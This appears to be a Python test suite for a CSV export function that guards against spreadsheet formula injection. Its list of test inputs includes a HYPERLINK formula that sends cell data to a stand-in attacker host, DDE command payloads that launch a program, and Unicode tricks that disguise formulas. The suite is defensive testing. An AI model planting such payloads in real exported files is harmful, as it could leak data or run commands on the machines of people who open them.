"""Cells of CSV: whatever people have written, no spreadsheet runs it, and every reader reads it as it was."""

import csv
import io

from chalicelib.analytics.export_file import cell, header
from tests.support.database import Database
from tests.support.for_each import for_each

# What a spreadsheet takes for a formula, or might.
FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\tindented",
    "\r=1+1",
    "\rreturned",
    "\n=1+1",
    "   =1+1",
    " \t -1",
    "\xa0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\ufeff@x",
    "\x01=1+1",
    "\x7f=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "﹦1",
    "\u22121",
    "-",
    "=",
    "+57 601 555 0100",
    '="a"',
)
HARMLESS = (
    "",
    " ",
    "VPN drops",
    "a=1+1",
    "'=1+1",
    '"=1+1"',
    'She said "no", twice',
    "two\nlines",
    "two\r\nlines\r\n",
    "a,b;c\td",
    "trailing ",
    "  leading",
    "0049",
    "1e5",
    "Ñandú, ¿qué?",
    "日本語",
    "🙂 👩\u200d💻",
    "\\N",
    "\\.",
    "\u2028x",
    "x" * 65_536,
    '"' * 1000,
)


def made(database: Database, text: str) -> str:
    return str(database.value("SELECT fn_csv_cell(:t)", t=text))


def read(cells: str) -> list[str]:
    (row,) = csv.reader(io.StringIO(cells + "\r\n", newline=""))
    return row


@for_each("text", FORMULAS)
def test_case_69_a_cell_that_begins_as_a_formula_is_neutralised(database: Database, text: str) -> None:
    assert read(made(database, text)) == [f"'{text}"]


@for_each("text", HARMLESS)
def test_what_is_no_formula_is_read_as_it_was_written(database: Database, text: str) -> None:
    assert read(made(database, text)) == [text]


@for_each("text", [*FORMULAS, *HARMLESS])
def test_headings_are_made_by_the_same_rule(database: Database, text: str) -> None:
    assert cell(text) == made(database, text)


def test_every_character_that_may_begin_a_cell_is_judged_alike(database: Database) -> None:
    rows = database.rows(
        "SELECT n, fn_csv_cell(chr(n) || '1') AS alone, fn_csv_cell(chr(n) || '=1') AS before "
        "FROM generate_series(1, 65535) AS n WHERE n NOT BETWEEN 55296 AND 57343"
    )
    differing = [
        row["n"]
        for row in rows
        if (row["alone"], row["before"]) != (cell(chr(row["n"]) + "1"), cell(chr(row["n"]) + "=1"))
    ]
    assert differing == []
    prefixed = {chr(row["n"]) for row in rows if row["alone"] == f'"\'{chr(row["n"])}1"'}
    assert prefixed == set("\t\r\n=+-@\u2212﹢﹣﹦﹫＋－＝＠")


def test_cells_that_follow_each_other_stay_apart(database: Database) -> None:
    texts = [*FORMULAS, *HARMLESS]
    line = ",".join(made(database, text) for text in texts)

    assert read(line) == [*(f"'{text}" for text in FORMULAS), *HARMLESS]


def test_nothing_is_an_empty_cell(database: Database) -> None:
    assert database.value("SELECT concat(fn_csv_cell(NULL), ',', fn_csv_cell(''))") == ',""'


def test_the_header_begins_with_a_byte_order_mark() -> None:
    assert header(["id", "custom_fields.product"]).encode() == (
        b'\xef\xbb\xbf"id","custom_fields.product"\r\n'
    )
